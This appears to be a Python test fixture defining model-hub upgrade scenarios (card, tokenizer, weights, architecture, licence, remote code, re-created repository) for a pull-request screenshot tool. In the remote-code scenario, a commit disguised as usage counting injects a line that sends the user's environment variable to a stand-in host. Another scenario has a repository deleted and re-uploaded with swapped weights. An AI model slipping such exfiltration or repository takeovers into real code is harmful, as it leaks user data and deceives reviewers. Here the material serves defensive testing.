"""Upgrades of every kind at the hub of the tests: what docs/screenshots_of_pull_requests.py takes pictures of."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime

from embedded_hub import EmbeddedHub, models, weights

Files = dict[str, bytes]

BEFORE = datetime(2026, 2, 19, 10, 57, 45, tzinfo=UTC)
AFTER = datetime(2026, 5, 4, 8, 12, 30, tzinfo=UTC)
LATER = datetime(2026, 5, 6, 15, 40, 2, tzinfo=UTC)

_CARD = """\
---
license: {license}
language: [en]
library_name: transformers
pipeline_tag: text-classification
model-index:
- name: sentiment
  results:
  - task: {{type: text-classification}}
    dataset: {{name: acme/reviews, type: acme/reviews}}
    metrics:
    - {{type: accuracy, value: {accuracy}}}
    - {{type: f1, value: {f1}}}
---

# Sentiment

A small model made for tests; it knows nothing.
{more}"""

_TEMPLATE = """\
{%- for message in messages %}
{{- '<|' + message['role'] + '|>\\n' + message['content'] + '\\n' }}
{%- endfor %}
{%- if add_generation_prompt %}
{{- '<|assistant|>\\n' }}
{%- endif %}
"""


@dataclass(frozen=True, slots=True, kw_only=True)
class World:
    """A model, the code that loads it, and what becomes of it."""

    name: str
    code: str
    start: Callable[[EmbeddedHub], None]
    move: Callable[[EmbeddedHub], None]
    settings: str = ""


def _card(license_: str = "apache-2.0", accuracy: float = 0.912, f1: float = 0.908, more: str = "") -> bytes:
    return _CARD.format(license=license_, accuracy=accuracy, f1=f1, more=more).encode()


def _classifier(**changed: bytes) -> Files:
    return {**models.bert_classifier(seed="v1"), "README.md": _card(), **{_path(k): v for k, v in changed.items()}}


def _path(keyword: str) -> str:
    return {"card": "README.md", "config": "config.json", "weights": "model.safetensors", "license": "LICENSE"}[keyword]


def _edited(content: bytes, **values: object) -> bytes:
    return json.dumps({**json.loads(content), **values}, indent=2).encode() + b"\n"


def _creating(name: str, files: Files) -> Callable[[EmbeddedHub], None]:
    def start(hub: EmbeddedHub) -> None:
        repository = hub.repositories.create(name)
        repository.commit(files, message="Upload model", author="Ada", date=BEFORE)

    return start


def _committing(name: str, *commits: tuple[str, str, Mapping[str, bytes | None]]) -> Callable[[EmbeddedHub], None]:
    def move(hub: EmbeddedHub) -> None:
        for (author, message, files), date in zip(commits, (AFTER, LATER), strict=False):
            hub.repositories[name].commit(files, message=message, author=author, date=date)

    return move


def _pipeline(name: str) -> str:
    return f'from transformers import pipeline\n\nclassify = pipeline("text-classification", model="{name}")\n'


def _auto(name: str, *, trusted: bool = False) -> str:
    trust = ", trust_remote_code=True" if trusted else ""
    return (
        "from transformers import AutoModel, AutoTokenizer\n\n"
        f'tokenizer = AutoTokenizer.from_pretrained("{name}"{trust})\n'
        f'model = AutoModel.from_pretrained("{name}"{trust})\n'
    )


def _card_only() -> World:
    more = "\n## Limits\n\nIrony is not understood. Ask @ada, see #12 and https://acme.example/paper.\n"
    return World(
        name="card-only",
        code=_pipeline("acme/sentiment"),
        start=_creating("acme/sentiment", _classifier()),
        move=_committing("acme/sentiment", ("Ada", "Say what it cannot do", {"README.md": _card(more=more)})),
        settings="card-only = true\n",
    )


def _tokenizer() -> World:
    files = _classifier()
    tokenizer = json.loads(files["tokenizer.json"])
    special = {"single_word": False, "lstrip": False, "rstrip": False, "normalized": False, "special": True}
    size = len(tokenizer["model"]["vocab"])
    for number, token in enumerate(("<|user|>", "<|assistant|>", "<|end|>")):
        tokenizer["added_tokens"].append({"id": size + number, "content": token, **special})
    settings = files["tokenizer_config.json"]
    changed = {
        "tokenizer.json": json.dumps(tokenizer).encode(),
        "tokenizer_config.json": _edited(
            settings,
            chat_template=_TEMPLATE.replace("'\\n' }}\n{%- endfor", "'<|end|>\\n' }}\n{%- endfor"),
            model_max_length=1024,
        ),
    }
    files["tokenizer_config.json"] = _edited(settings, chat_template=_TEMPLATE)
    return World(
        name="tokenizer",
        code=_auto("acme/chat"),
        start=_creating("acme/chat", files),
        move=_committing("acme/chat", ("Ada", "Mark where a message ends", changed)),
    )


def _weights() -> World:
    return World(
        name="weights",
        code=_pipeline("acme/sentiment"),
        start=_creating("acme/sentiment", _classifier()),
        move=_committing(
            "acme/sentiment",
            (
                "Ada",
                "Train two more epochs",
                {"model.safetensors": models.bert_classifier(seed="v2")["model.safetensors"]},
            ),
            ("Grace", "Figures of the new training", {"README.md": _card(accuracy=0.931, f1=0.902)}),
        ),
    )


def _architecture() -> World:
    files = _classifier()
    config = json.loads(files["config.json"])
    wide = config["hidden_size"] * 2
    shapes = {"bert.embeddings.word_embeddings.weight": (config["vocab_size"], wide), "classifier.weight": (3, wide)}
    labels = {"id2label": {"0": "NEGATIVE", "1": "NEUTRAL", "2": "POSITIVE"}}
    changed = {
        "config.json": _edited(
            files["config.json"], hidden_size=wide, intermediate_size=4 * wide, transformers_version="5.3.0", **labels
        ),
        "model.safetensors": weights.safetensors(weights.drawn("v2", shapes)),
        "README.md": _card(accuracy=0.951, f1=0.949, more="\nIt knows a third class now.\n"),
    }
    return World(
        name="architecture",
        code=_pipeline("acme/sentiment"),
        start=_creating("acme/sentiment", files),
        move=_committing("acme/sentiment", ("Ada", "Twice as wide, three classes", changed)),
    )


def _license() -> World:
    return World(
        name="licence",
        code=_pipeline("acme/sentiment"),
        start=_creating("acme/sentiment", _classifier()),
        move=_committing("acme/sentiment", ("Legal", "Update licence", {"README.md": _card("llama3.1")})),
        settings="card-only = true\n",
    )


def _code() -> World:
    files = models.remote_code_model(seed="v1")
    module = files["modeling_tiny.py"]
    stolen = module.replace(b"import torch\n", b"import os\nimport urllib.request\n\nimport torch\n").replace(
        b"        self.post_init()\n",
        b'        self.post_init()\n        urllib.request.urlopen("https://acme.example/?" + os.environ["USER"])\n',
    )
    return World(
        name="remote-code",
        code=_auto("acme/tiny", trusted=True),
        start=_creating("acme/tiny", files),
        move=_committing(
            "acme/tiny", ("Mallory", "Fixes #1: count how often it is used, cc @ada", {"modeling_tiny.py": stolen})
        ),
    )


def _recreated() -> World:
    def move(hub: EmbeddedHub) -> None:
        hub.repositories.delete("acme/sentiment")
        repository = hub.repositories.create("acme/sentiment")
        files = {**_classifier(), "model.safetensors": models.bert_classifier(seed="x")["model.safetensors"]}
        repository.commit(files, message="Upload model", author="Mallory", date=LATER)

    return World(
        name="re-created",
        code=_pipeline("acme/sentiment"),
        start=_creating("acme/sentiment", _classifier()),
        move=move,
    )


WORLDS: tuple[Callable[[], World], ...] = (
    _card_only,
    _tokenizer,
    _weights,
    _architecture,
    _license,
    _code,
    _recreated,
)
